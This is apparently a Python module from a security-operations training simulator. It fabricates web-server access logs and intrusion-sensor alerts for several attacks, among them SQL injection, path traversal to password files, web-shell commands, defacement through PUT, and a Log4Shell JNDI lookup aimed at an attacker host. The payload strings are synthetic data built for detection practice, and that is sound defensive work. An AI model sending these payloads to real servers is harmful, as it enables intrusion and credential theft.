"""Attacks on web servers: what an access log and a sensor in front of it see."""

from __future__ import annotations

from typing import TYPE_CHECKING

from citysoc.simulation import names
from citysoc.simulation.formats import suricata, webaccess
from citysoc.simulation.formats.suricata import Signature
from citysoc.simulation.stamps import SECOND

if TYPE_CHECKING:
    from citysoc.simulation.attacks.plot import Plot

_INJECTIONS = (
    "/tin-tuc?id=7%20UNION%20ALL%20SELECT%20NULL,CONCAT(username,0x3a,password)%20FROM%20users--%20-",
    "/tin-tuc?id=7%27%20AND%20SLEEP(5)--%20-",
    "/tra-cuu-ho-so?ma=1%27%20OR%20%271%27=%271",
    "/tra-cuu-ho-so?ma=1%27;WAITFOR%20DELAY%20%270:0:5%27--",
    "/tin-tuc?id=7+union+select+table_name,2+from+information_schema.tables",
)
_TRAVERSALS = (
    "/tai-ve?tep=../../../../etc/passwd",
    "/tai-ve?tep=..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/static/%2e%2e/%2e%2e/%2e%2e/windows/win.ini",
    "/tai-ve?tep=....//....//....//etc/shadow",
)
LOG4J = Signature(
    1_000_201,
    "CITY EXPLOIT Log4j lookup in a request header (CVE-2021-44228)",
    "Attempted Administrator Privilege Gain",
    1,
)


def sql_injection(plot: Plot) -> None:
    """A tool tries database injections against one page until it gets answers."""
    if (stream := plot.find("web")) is None:
        return
    plot.about(f"host:{stream.site.web[0]}")
    address, at = plot.attacker(), plot.office_hours()
    for n in range(45):
        line = webaccess.request(
            plot.stamps,
            at,
            address=address,
            target=_INJECTIONS[n % len(_INJECTIONS)],
            status=plot.rng.choice((200, 200, 403, 500)),
            size=plot.rng.randrange(300, 9000),
            agent="sqlmap/1.9.4#stable",
        )
        plot.put(stream, at, line)
        at += plot.rng.randrange(1, 9) * SECOND


def path_traversal(plot: Plot) -> None:
    """Requests climb out of the web folder for password files."""
    if (stream := plot.find("web")) is None:
        return
    plot.about(f"host:{stream.site.web[0]}")
    address, at = plot.attacker(), plot.night()
    for n in range(16):
        target, status = _TRAVERSALS[n % len(_TRAVERSALS)], plot.rng.choice((400, 403, 404, 404))
        line = webaccess.request(
            plot.stamps, at, address=address, target=target, status=status, size=512, agent=names.BROWSERS[1]
        )
        plot.put(stream, at, line)
        at += plot.rng.randrange(2, 20) * SECOND


def web_shell(plot: Plot) -> None:
    """A script among the uploaded pictures takes commands."""
    if (stream := plot.find("web")) is None:
        return
    plot.about(f"host:{stream.site.web[0]}")
    address, at = plot.attacker(), plot.night(22.0)
    upload = webaccess.request(
        plot.stamps, at, address=address, method="POST", target="/gop-y/tai-len", size=88, agent="curl/8.5.0"
    )
    plot.put(stream, at, upload, telling=False)
    for command in ("whoami", "id", "uname%20-a", "cat%20/etc/passwd", "ls%20-la%20..", "netstat%20-an") * 2:
        at += plot.rng.randrange(5, 60) * SECOND
        line = webaccess.request(
            plot.stamps,
            at,
            address=address,
            target=f"/uploads/2026/anh-bia.php?cmd={command}",
            size=plot.rng.randrange(40, 3000),
            agent="curl/8.5.0",
        )
        plot.put(stream, at, line)


def defacement(plot: Plot) -> None:
    """The home page is overwritten through an open PUT method."""
    if (stream := plot.find("web")) is None:
        return
    plot.about(f"host:{stream.site.web[0]}")
    address, at = plot.attacker(), plot.night(3.0)
    for method, target, status in (
        ("OPTIONS", "/", 200),
        ("PUT", "/index.html", 201),
        ("PUT", "/default.htm", 204),
        ("GET", "/index.html", 200),
    ):
        line = webaccess.request(
            plot.stamps,
            at,
            address=address,
            method=method,
            target=target,
            status=status,
            size=1331,
            agent="python-requests/2.32.3",
        )
        plot.put(stream, at, line, telling=method == "PUT")
        at += plot.rng.randrange(2, 30) * SECOND


def log4shell(plot: Plot) -> None:
    """A Java lookup in the user agent, seen by the sensor and, where there is one, by the web server."""
    if (stream := plot.find("ids", ("suricata",), also="web")) is None:
        return
    host, address = stream.site.web
    plot.about(f"host:{host}")
    attacker, at = plot.attacker(), plot.night(4.0)
    agent = "${jndi:ldap://" + attacker + ":1389/Basic/Command/Base64/d2hvYW1p}"
    access = plot.beside(stream.site, "web")
    for _ in range(9):
        flow = plot.flow(attacker, address, 8080, inbound=True)
        http = {
            "hostname": host,
            "url": "/dang-nhap",
            "http_user_agent": agent,
            "http_method": "GET",
            "protocol": "HTTP/1.1",
            "status": 404,
            "length": 0,
        }
        plot.put(stream, at, suricata.alert(plot.stamps, at, flow, LOG4J, http=http))
        if access is not None:
            line = webaccess.request(
                plot.stamps, at, address=attacker, target="/dang-nhap", status=404, size=196, agent=agent
            )
            plot.put(access, at, line)
        at += plot.rng.randrange(3, 90) * SECOND
